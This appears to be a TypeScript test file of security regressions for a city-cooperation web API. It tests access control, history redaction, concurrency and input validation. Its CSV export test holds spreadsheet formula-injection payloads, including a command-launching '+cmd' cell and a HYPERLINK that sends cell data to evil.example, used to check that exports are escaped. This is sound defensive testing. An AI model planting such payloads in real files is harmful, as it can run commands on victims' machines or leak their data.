import type { FastifyInstance } from "fastify";
import { spawn, spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { sql } from "kysely";
import { describe, expect, it } from "vitest";
import { useTestApp } from "../../test/support/app.js";
import { COOP_FIXTURE as F, loadCooperationFixture } from "../../test/support/cooperation-fixture.js";
import { DIALECTS } from "../../test/support/databases.js";
import { loadFixture } from "../../test/support/fixture.js";
import type { RoleGrant } from "../domain/account.js";
import { createToken, createUser } from "../services/accounts.js";
import type { AppContext } from "../services/context.js";
import { HISTORY_RULES } from "./history-policy.js";
import { sweepUploadSpools, UPLOAD_SPOOL_DIR } from "./upload.js";
import { WRITE_POLICY } from "./write-policy.js";

/** The users of these regressions, by name, with their roles. */
const ROLES: Record<string, RoleGrant[]> = {
  nobody: [],
  "manager of the programme": [{ role: "programme_manager", scope: F.programme }],
  "manager of another programme": [{ role: "programme_manager", scope: F.otherProgramme }],
  "editor of chongqing": [{ role: "city_editor", scope: "chongqing-cn" }],
  "editor of mannheim": [{ role: "city_editor", scope: "mannheim-de" }],
};

/** Regressions of the December 2026 security probe (issue 19, part 5). */
describe.each(DIALECTS)("security regressions on %s", (dialect) => {
  let app: FastifyInstance;
  let ctx: AppContext;
  const tokens: Record<string, string> = {};
  const userIds: Record<string, string> = {};
  useTestApp(
    dialect,
    async (c) => {
      await loadFixture(c);
      await loadCooperationFixture(c);
      // A second cooperation, in the other programme, with its own pilot.
      const at = "2026-01-01T00:00:00.000Z";
      const meta = { version: 1, created_by: "fixture", created_at: at, updated_at: at };
      await c.database.db.insertInto("cooperations").values({ id: "coop-b1", programme_id: F.otherProgramme, name_en: "Other", name_zh: null, themes_json: "[]", start_date: "2026-01-01", end_date: null, status: "proposed", origin: "manual", source_ids_json: "[]", ...meta }).execute();
      await c.database.db.insertInto("cooperation_members").values({ cooperation_id: "coop-b1", city_slug: "chongqing-cn", role: "lead", side: null, joined_on: null }).execute();
      await c.database.db.insertInto("pilots").values({ id: "pil-b1", cooperation_id: "coop-b1", title_en: "Other pilot", title_zh: null, description_en: null, description_zh: null, city_slug: "chongqing-cn", start_date: null, end_date: null, budget: null, currency: null, status: "planned", ...meta }).execute();
      for (const [name, grants] of Object.entries(ROLES)) {
        const user = await createUser(c, { email: `${name.replace(/[^a-z]+/gi, "-")}@example.org`, name, password: "long enough password" });
        for (const g of grants) await c.accounts.grant(user.id, g, "test", "2026-01-01T00:00:00Z");
        userIds[name] = user.id;
        tokens[name] = (await createToken(c, user.id, "security")).secret;
      }
      const admin = await createUser(c, { email: "admin@example.org", name: "Admin", password: "long enough password", isAdmin: true });
      tokens.admin = (await createToken(c, admin.id, "security")).secret;
    },
    (s) => ({ app, ctx } = s),
  );
  const as = (who: string) => ({ authorization: `Bearer ${tokens[who]}` });
  const history = (entity: string, id: string, who: string) => app.inject({ method: "GET", url: `/api/v1/history/${entity}/${id}`, headers: as(who) });

  describe("GET /history/{entity}/{id} reads as the record's own endpoint", () => {
    it("reads an entity named like one of Object's methods as an unknown one: administrators only, never a 500", async () => {
      // The fuzz test once sent /history/valueOf/…: the rule lookup found Object.prototype.valueOf and called it.
      for (const entity of ["valueOf", "constructor", "toString", "__proto__", "hasOwnProperty"]) {
        const r = await history(entity, "x", "nobody");
        expect(r.statusCode, entity).toBe(403);
        expect(r.headers["content-type"]).toMatch(/problem\+json/);
      }
    });

    it("hides an application's contact from everyone but the programme's managers and the city's editors", async () => {
      const created = await app.inject({ method: "POST", url: `/api/v1/calls/${F.call}/applications`, payload: { city: "mannheim-de", contact: { name: "Secret Person", email: "secret.person@example.org" } } });
      expect(created.statusCode).toBe(201);
      const id = created.json().id as string;
      for (const who of ["nobody", "manager of another programme", "editor of chongqing"]) {
        const own = await app.inject({ method: "GET", url: `/api/v1/applications/${id}`, headers: as(who) });
        expect(own.json().contact).toEqual({ name: null, email: null });
        const r = await history("application", id, who);
        expect(r.statusCode).toBe(200);
        expect(r.json().entries).toHaveLength(1);
        expect(r.json().entries[0].after).toMatchObject({ city_slug: "mannheim-de", contact_name: null, contact_email: null });
        expect(r.body).not.toContain("secret.person");
        expect(r.body).not.toContain("Secret Person");
      }
      for (const who of ["manager of the programme", "editor of mannheim"]) {
        const r = await history("application", id, who);
        expect(r.json().entries[0].after).toMatchObject({ contact_name: "Secret Person", contact_email: "secret.person@example.org" });
      }
    });

    it("shows a user's record and roles to administrators and the user only", async () => {
      const id = userIds.nobody as string;
      const grant = await app.inject({ method: "POST", url: `/api/v1/users/${id}/roles`, payload: { role: "city_editor", scope: "hamburg-de" } });
      expect(grant.statusCode).toBe(200);
      await app.inject({ method: "DELETE", url: `/api/v1/users/${id}/roles`, payload: { role: "city_editor", scope: "hamburg-de" } });
      const other = userIds["editor of chongqing"] as string;
      for (const [entity, target] of [["user-roles", id], ["user", other], ["user-roles", other]] as const) {
        const r = await history(entity, target, target === id ? "editor of chongqing" : "nobody");
        expect(r.statusCode).toBe(403);
        expect(r.headers["content-type"]).toContain("application/problem+json");
        expect(r.body).not.toContain("@example.org");
      }
      const self = await history("user-roles", id, "nobody");
      expect(self.statusCode).toBe(200);
      expect(self.json().entries).toHaveLength(2);
      expect((await app.inject({ method: "GET", url: `/api/v1/history/user-roles/${id}` })).json().entries).toHaveLength(2);
    });

    it("shows a statement awaiting moderation to its moderators only", async () => {
      const district = (await app.inject({ method: "POST", url: "/api/v1/cities/chongqing-cn/districts", payload: { names: { en: "Yuzhong" } } })).json();
      const pid = (await app.inject({ method: "POST", url: `/api/v1/districts/${district.id}/processes`, payload: { question: { en: "Yuzhong in 2035?" }, startsOn: "2026-03-01" } })).json().id as string;
      const token = (await app.inject({ method: "POST", url: `/api/v1/vision-processes/${pid}/participants`, payload: { name: "Li", group: "residents" } })).json().token as string;
      const said = await app.inject({ method: "POST", url: `/api/v1/vision-processes/${pid}/statements`, payload: { token, text: "a quiet riverside walk", language: "en", aspect: "physical", kind: "wish" } });
      expect(said.statusCode).toBe(201);
      const sid = said.json().id as string;
      const hidden = await history("vision-statement", sid, "editor of mannheim");
      expect(hidden.statusCode).toBe(200);
      expect(hidden.json().entries[0].after).toEqual({ id: sid, status: "pending" });
      expect(hidden.body).not.toContain("riverside");
      expect((await history("vision-statement", sid, "editor of chongqing")).json().entries[0].after).toMatchObject({ status: "pending", text: "a quiet riverside walk" });
      // Once accepted, the statement is public; its pending state before stays hidden.
      const accepted = await app.inject({ method: "POST", url: `/api/v1/vision-statements/${sid}/moderation`, headers: as("editor of chongqing"), payload: { status: "accepted", version: 1 } });
      expect(accepted.statusCode).toBe(200);
      const entries = (await history("vision-statement", sid, "nobody")).json().entries;
      expect(entries[1].before).toEqual({ id: sid, status: "pending" });
      expect(entries[1].after).toMatchObject({ status: "accepted", text: "a quiet riverside walk" });
    });

    it("has a read rule for every audited entity", () => {
      const audited = new Set(Object.values(WRITE_POLICY).flatMap((r) => (r.audit ? [r.audit.entity] : [])));
      expect([...audited].filter((e) => !(e in HISTORY_RULES))).toEqual([]);
    });
  });

  it("lets exactly one of 8 concurrent practice edits with the same If-Match win; the others get 409 with the winner", async () => {
    const practice = {
      id: "race-bus-lanes", title_en: "Bus lanes", city: "Chongqing", country: "CN", themes: ["transport"], summary_en: "Bus lanes.",
      outcomes: [{ metric: "Bus speed", value: 18, unit: "km/h", baseline: 12, year: 2021, source_url: "https://example.org/bus", indicator: null }],
      sources: [{ title: "Bus report", url: "https://example.org/bus", publisher: "Example", year: 2021 }],
    };
    expect((await app.inject({ method: "POST", url: "/api/v1/practices", payload: practice })).statusCode).toBe(201);
    for (let round = 0; round < 3; round++) {
      const etag = (await app.inject({ method: "GET", url: `/api/v1/practices/${practice.id}` })).headers.etag as string;
      const puts = await Promise.all(
        Array.from({ length: 8 }, (_, i) => app.inject({ method: "PUT", url: `/api/v1/practices/${practice.id}`, headers: { "if-match": etag }, payload: { ...practice, title_en: `edit ${round}.${i}` } })),
      );
      const codes = puts.map((r) => r.statusCode).sort();
      expect(codes).toEqual([200, 409, 409, 409, 409, 409, 409, 409]);
      const winner = puts.find((r) => r.statusCode === 200)!;
      const now = await app.inject({ method: "GET", url: `/api/v1/practices/${practice.id}` });
      expect(now.json().title.en).toBe(winner.json().title.en);
      expect(now.headers.etag).toBe(winner.headers.etag);
      expect(now.headers.etag).not.toBe(etag);
      for (const r of puts.filter((p) => p.statusCode === 409)) expect(r.json().current.updatedAt).toBe(winner.json().updatedAt);
    }
  });

  it("refuses a KPI on a pilot of another cooperation with 400, as it refuses an action of another one", async () => {
    const kpi = { names: { en: "Riders" }, unit: "trips", baselineValue: 1, baselineDate: "2026-01-01", targetValue: 2, targetYear: 2030 };
    const post = (pilotId: string) => app.inject({ method: "POST", url: `/api/v1/cooperations/${F.cooperation}/kpis`, headers: as("editor of chongqing"), payload: { ...kpi, pilotId } });
    const foreign = await post("pil-b1");
    expect(foreign.statusCode).toBe(400);
    expect(foreign.headers["content-type"]).toContain("application/problem+json");
    expect(foreign.json().errors[0]).toMatchObject({ path: "pilotId", value: "pil-b1" });
    expect((await post("no-such-pilot")).statusCode).toBe(400);
    const patched = await app.inject({ method: "PATCH", url: `/api/v1/kpis/${F.kpi}`, headers: as("editor of chongqing"), payload: { ...kpi, pilotId: "pil-b1", version: 1 } });
    expect(patched.statusCode).toBe(400);
    expect((await app.inject({ method: "GET", url: "/api/v1/pilots/pil-b1" })).body).not.toContain("Riders");
    expect((await post(F.pilot)).statusCode).toBe(201);
  });

  it("guards every CSV export against formulas, and the guarded export imports back unchanged", async () => {
    const notes = ["=1+2", "@SUM(1+1)", "+cmd|' /C calc'!A0"];
    const csv = ["city,indicator,period,value,source,note", ...notes.map((n, i) => `chongqing-cn,air.pm25_annual,${2015 + i},31,geonames,"${n.replace(/"/g, '""')}"`)].join("\n");
    const imported = await app.inject({ method: "POST", url: "/api/v1/observations/import", headers: { "content-type": "text/csv" }, payload: csv });
    expect(imported.statusCode, imported.body).toBe(200);
    const exported = await app.inject({ method: "GET", url: "/api/v1/observations/export?city=chongqing-cn&indicator=air.pm25_annual&format=csv", headers: { authorization: "" } });
    const cells = parse(exported.body, { columns: true }) as Record<string, string>[];
    expect(cells.map((r) => r.note)).toEqual(notes.map((n) => `'${n}`));
    expect(cells.map((r) => r.value)).toEqual(["31", "31", "31"]);
    // Read back, the notes are the text that was written.
    const again = await app.inject({ method: "POST", url: "/api/v1/observations/import", headers: { "content-type": "text/csv" }, payload: exported.body.split("\n").map((l) => l.split(",").slice(0, 6).join(",")).join("\n") });
    expect(again.statusCode, again.body).toBe(200);
    const json = (await app.inject({ method: "GET", url: "/api/v1/observations/export?city=chongqing-cn&indicator=air.pm25_annual&format=json" })).json() as { note: string }[];
    expect(json.map((o) => o.note)).toEqual(notes);

    const practice = {
      id: "formula-practice", title_en: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", city: "Chongqing", country: "CN", themes: ["transport"], summary_en: "@SUM(1+1)",
      measures: ["=HYPERLINK(\"http://evil.example\")", "bus lanes"],
      sources: [{ title: "Bus report", url: "https://example.org/bus", publisher: "Example", year: 2021 }],
    };
    expect((await app.inject({ method: "POST", url: "/api/v1/practices", payload: practice })).statusCode).toBe(201);
    const practices = parse((await app.inject({ method: "GET", url: "/api/v1/practices/export?format=csv" })).body, { columns: true }) as Record<string, string>[];
    const row = practices.find((r) => r.id === "formula-practice")!;
    expect([row.title_en, row.summary_en, row.measures?.split("\n")[0]]).toEqual([`'${practice.title_en}`, "'@SUM(1+1)", `'${practice.measures[0]}`]);

    const audit = parse((await app.inject({ method: "GET", url: "/api/v1/audit.csv" })).body) as string[][];
    for (const cell of audit.flat()) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?![\d.])/);
  });

  describe("text the databases cannot store, or that shows as nothing", () => {
    it.each([
      ["a NUL in a query", "GET", "/api/v1/cities?q=%00", undefined, "q"],
      ["a NUL in a path", "GET", "/api/v1/cities/chong%00qing", undefined, "slug"],
      ["a NUL in a practice search", "GET", "/api/v1/practices?q=bus%00", undefined, "q"],
      ["a NUL in a body", "POST", "/api/v1/organisations", { names: { en: "Org\u0000nul" }, kind: "private", country: "CN" }, "names.en"],
      ["a lone surrogate", "POST", "/api/v1/organisations", { names: { en: "Org \ud800" }, kind: "private", country: "CN" }, "names.en"],
      ["a name of zero-width characters", "POST", "/api/v1/organisations", { names: { en: "\u200b\u200c\u200d" }, kind: "private", country: "CN" }, "names.en"],
      ["a name of bidi controls", "POST", "/api/v1/organisations", { names: { en: "\u202e\u2066 \u200f" }, kind: "private", country: "CN" }, "names.en"],
      ["a NUL in a user's name", "POST", "/api/v1/users", { email: "nul@example.org", name: "a\u0000b", password: "long enough password" }, "name"],
    ])("answers %s with 400 naming the field", async (_what, method, url, payload, path) => {
      const r = await app.inject({ method: method as "GET", url, headers: as("editor of chongqing"), ...(payload ? { payload } : {}) });
      expect(r.statusCode, r.body).toBe(400);
      expect(r.headers["content-type"]).toContain("application/problem+json");
      expect(r.json().errors[0].path).toBe(path);
    });

    it("keeps text that only looks unusual: right-to-left names, emoji, joiners inside words, CJK", async () => {
      for (const en of ["\u05e9\u05dc\u05d5\u05dd Org", "Org \u{1F3D9}\uFE0F", "\u{1F468}\u200d\u{1F469} family", "重庆公交"]) {
        const r = await app.inject({ method: "POST", url: "/api/v1/organisations", headers: as("editor of chongqing"), payload: { names: { en }, kind: "private", country: "CN" } });
        expect(r.statusCode, r.body).toBe(201);
        expect(r.json().names.en).toBe(en);
      }
      expect((await app.inject({ method: "GET", url: `/api/v1/cities?q=${encodeURIComponent("重庆")}` })).statusCode).toBe(200);
    });
  });

  describe("answers that depend on who asks", () => {
    it("are never cached: Cache-Control no-store for signed-in callers and personal endpoints", async () => {
      const personal = ["/api/v1/auth/me", "/api/v1/auth/session", "/api/v1/auth/tokens", "/api/v1/users", `/api/v1/users/${userIds.nobody}`, "/api/v1/audit", "/api/v1/audit.csv", `/api/v1/history/user/${userIds.nobody}`];
      for (const url of personal) {
        for (const who of ["admin", "nobody"]) {
          const r = await app.inject({ method: "GET", url, headers: as(who) });
          expect([url, who, r.headers["cache-control"]]).toEqual([url, who, "no-store"]);
        }
        expect((await app.inject({ method: "GET", url, headers: { authorization: "" } })).headers["cache-control"]).toBe("no-store");
      }
      // Public reads: no-store when signed in (e.g. an application's contact), cacheable when anonymous.
      expect((await app.inject({ method: "GET", url: `/api/v1/applications/${F.application}`, headers: as("manager of the programme") })).headers["cache-control"]).toBe("no-store");
      expect((await app.inject({ method: "GET", url: `/api/v1/applications/${F.application}`, headers: { authorization: "" } })).headers["cache-control"]).toBeUndefined();
    });

    it("lets administrators disable a user, which ends their sessions and tokens at once, and enable them again", async () => {
      const created = await app.inject({ method: "POST", url: "/api/v1/users", headers: as("admin"), payload: { email: "leaver@example.org", name: "Leaver", password: "long enough password" } });
      const id = created.json().id as string;
      const signIn = () => app.inject({ method: "POST", url: "/api/v1/auth/sign-in", headers: { authorization: "" }, payload: { email: "leaver@example.org", password: "long enough password" } });
      const session = await signIn();
      const cookie = session.cookies.map((c) => `${c.name}=${c.value}`).join("; ");
      const token = (await app.inject({ method: "POST", url: "/api/v1/auth/tokens", headers: { authorization: "", cookie, "x-csrf-token": session.cookies.find((c) => c.name === "cb_csrf")?.value ?? "" }, payload: { name: "cli" } })).json().secret as string;
      const me = (h: Record<string, string>) => app.inject({ method: "GET", url: "/api/v1/auth/me", headers: h });
      expect((await me({ cookie })).statusCode).toBe(200);
      expect((await me({ authorization: `Bearer ${token}` })).statusCode).toBe(200);

      expect((await app.inject({ method: "POST", url: `/api/v1/users/${id}/disable`, headers: as("manager of the programme") })).statusCode).toBe(403);
      expect((await app.inject({ method: "POST", url: `/api/v1/users/${id}/disable`, headers: { authorization: `Bearer ${token}` } })).statusCode).toBe(403);
      const disabled = await app.inject({ method: "POST", url: `/api/v1/users/${id}/disable`, headers: as("admin") });
      expect(disabled.statusCode).toBe(200);
      expect(disabled.json()).toMatchObject({ id, disabled: true });
      expect((await me({ cookie })).statusCode).toBe(401);
      expect((await me({ authorization: `Bearer ${token}` })).statusCode).toBe(401);
      expect((await signIn()).statusCode).toBe(401);

      const enabled = await app.inject({ method: "POST", url: `/api/v1/users/${id}/enable`, headers: as("admin") });
      expect(enabled.json()).toMatchObject({ id, disabled: false });
      expect((await signIn()).statusCode).toBe(200);
      // What was ended stays ended.
      expect((await me({ cookie })).statusCode).toBe(401);
      expect((await me({ authorization: `Bearer ${token}` })).statusCode).toBe(401);

      const adminId = (await me(as("admin"))).json().id as string;
      const self = await app.inject({ method: "POST", url: `/api/v1/users/${adminId}/disable`, headers: as("admin") });
      expect(self.statusCode).toBe(409);
      expect((await app.inject({ method: "POST", url: "/api/v1/users/no-such-user/disable", headers: as("admin") })).statusCode).toBe(404);

      const trail = (await app.inject({ method: "GET", url: `/api/v1/history/user/${id}`, headers: as("admin") })).json().entries as { action: string; actor: string; before: { disabled: boolean } | null; after: { disabled: boolean } }[];
      expect(trail.map((e) => [e.action, e.actor, e.before?.disabled ?? null, e.after.disabled])).toEqual([
        ["create", "admin@example.org", null, false],
        ["update", "admin@example.org", false, true],
        ["update", "admin@example.org", true, false],
      ]);
    });
  });

  describe("audit rows in the write's own transaction", () => {
    /** Makes the database refuse audit rows (a real failure of the audit insert, not a mock). */
    const refuseAudit = async (on: boolean) => {
      const db = ctx.database.db;
      if (dialect === "postgres") {
        if (on) {
          await sql`create or replace function cb_test_refuse_audit() returns trigger language plpgsql as $$ begin raise exception 'audit refused'; end $$`.execute(db);
          await sql`create trigger cb_test_refuse_audit before insert on audit_log for each row execute function cb_test_refuse_audit()`.execute(db);
        } else await sql`drop trigger cb_test_refuse_audit on audit_log`.execute(db);
      } else if (on) await sql`create trigger cb_test_refuse_audit before insert on audit_log begin select raise(abort, 'audit refused'); end`.execute(db);
      else await sql`drop trigger cb_test_refuse_audit`.execute(db);
    };
    const orgs = async (name: string) => (await ctx.database.db.selectFrom("organisations").select("id").where("name_en", "=", name).execute()).length;

    it("keeps no change whose audit row could not be written", async () => {
      await refuseAudit(true);
      try {
        const created = await app.inject({ method: "POST", url: "/api/v1/organisations", headers: as("editor of chongqing"), payload: { names: { en: "Unaudited Org" }, kind: "private", country: "CN" } });
        expect(created.statusCode).toBe(500);
        const patched = await app.inject({ method: "PATCH", url: `/api/v1/kpis/${F.kpi}`, headers: as("editor of chongqing"), payload: { actionId: F.action, names: { en: "Unaudited KPI" }, unit: "%", baselineValue: 10, baselineDate: "2026-01-01", targetValue: 20, targetYear: 2030, version: 1 } });
        expect(patched.statusCode).toBe(500);
      } finally {
        await refuseAudit(false);
      }
      expect(await orgs("Unaudited Org")).toBe(0);
      expect(await ctx.database.db.selectFrom("kpis").select(["name_en", "version"]).where("id", "=", F.kpi).executeTakeFirst()).toEqual({ name_en: "Freight by rail", version: 1 });
      // With the audit trail working again, the same writes go through, each with its row.
      expect((await app.inject({ method: "POST", url: "/api/v1/organisations", headers: as("editor of chongqing"), payload: { names: { en: "Audited Org" }, kind: "private", country: "CN" } })).statusCode).toBe(201);
      expect(await orgs("Audited Org")).toBe(1);
      const trail = (await app.inject({ method: "GET", url: "/api/v1/audit?entity=organisation" })).json().entries as { after: { name_en: string } }[];
      expect(trail.map((e) => e.after.name_en)).toContain("Audited Org");
      expect(trail.map((e) => e.after.name_en)).not.toContain("Unaudited Org");
    });
  });

  describe("malformed multipart uploads", () => {
    const b = "XyZ";
    const filePart = `--${b}\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\nContent-Type: text/csv\r\n\r\ncity,indicator,period,value,source\r\nchongqing-cn,air.pm25_annual,2012,7,geonames\r\n`;
    const manyFields = Array.from({ length: 50 }, (_, i) => `--${b}\r\nContent-Disposition: form-data; name="f${i}"\r\n\r\nv\r\n`).join("");
    /** Sends a raw request over a socket (as a client would; inject hides the stream behaviour), with a 5 s timeout. */
    const send = async (path: string, contentType: string, body: string, who = "editor of chongqing") => {
      if (!app.server.listening) await app.listen({ port: 0, host: "127.0.0.1" });
      const { port } = app.server.address() as { port: number };
      const t0 = Date.now();
      const r = await fetch(`http://127.0.0.1:${port}${path}`, { method: "POST", headers: { authorization: `Bearer ${tokens[who]}`, "content-type": contentType }, body, signal: AbortSignal.timeout(5000) });
      return { status: r.status, type: r.headers.get("content-type"), ms: Date.now() - t0, body: await r.text() };
    };
    const ours = () => readdirSync(UPLOAD_SPOOL_DIR).filter((n) => n.startsWith(`${process.pid}-`));

    it.each([
      ["without the closing boundary", `multipart/form-data; boundary=${b}`, filePart],
      ["with more fields than allowed", `multipart/form-data; boundary=${b}`, `${manyFields}${filePart}--${b}--\r\n`],
      ["with a file after too many fields and no end", `multipart/form-data; boundary=${b}`, `${manyFields}${filePart}`],
      ["without boundary= in the content type", "multipart/form-data", `${filePart}--${b}--\r\n`],
    ])("answers a form %s with a prompt 400 and leaves no spool behind", async (_what, type, body) => {
      for (const path of ["/api/v1/observations/import", "/api/v1/cities/chongqing-cn/air/import"]) {
        const r = await send(path, type, body);
        expect([r.status, r.type]).toEqual([400, "application/problem+json; charset=utf-8"]);
        expect(r.ms).toBeLessThan(2000);
        expect(ours()).toEqual([]);
      }
      expect((await send(`/api/v1/inventories/no-such-inventory/import?version=1`, type, body, "admin")).status).toBe(400);
    });

    it("still imports a well-formed form", async () => {
      const r = await send("/api/v1/observations/import", `multipart/form-data; boundary=${b}`, `${filePart}--${b}--\r\n`);
      expect(r.status, r.body).toBe(200);
      expect(JSON.parse(r.body)).toMatchObject({ rows: 1 });
      expect(ours()).toEqual([]);
    });
  });
});

describe("upload spools of a killed process", () => {
  it("are removed when a server starts; those of live processes stay", async () => {
    const root = mkdtempSync(join(tmpdir(), "citybridge-sweep-"));
    const dead = spawnSync(process.execPath, ["-e", "process.stdout.write(String(process.pid))"]).stdout.toString();
    const live = spawn(process.execPath, ["-e", "setTimeout(() => {}, 30000)"]);
    try {
      for (const name of [`${dead}-abc`, `${live.pid}-def`, `${process.pid}-ghi`, "stray"]) {
        mkdirSync(join(root, name));
        writeFileSync(join(root, name, "upload.csv"), "x".repeat(1000));
      }
      expect(await sweepUploadSpools(root)).toBe(3);
      expect(readdirSync(root)).toEqual([`${live.pid}-def`]);
    } finally {
      live.kill();
      rmSync(root, { recursive: true, force: true });
    }
  });
});
